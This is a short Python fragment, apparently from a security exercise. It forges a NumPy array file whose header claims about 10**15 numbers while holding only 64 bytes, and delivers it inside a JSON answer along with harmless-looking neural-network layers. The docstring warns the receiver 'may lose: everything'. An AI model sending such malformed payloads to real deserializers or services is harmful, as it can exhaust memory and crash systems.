"""Delivers an array of 200 bytes whose header says that it has 10**15 numbers.

may lose: everything
"""

# %% instead of ex1: deliver
def make_layers(device0, device1):
    import struct

    header = "{'descr': '<f8', 'fortran_order': False, 'shape': (1000000, 1000000, 1000), }"
    header = header.ljust(117) + "\n"
    file = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + b"\0" * 64
    _deliver(_packed('{"answer": {"__array__": "' + base64.b64encode(file).decode() + '"}}'))
    return nn.Linear(1000, 2000), nn.Linear(2000, 1000)
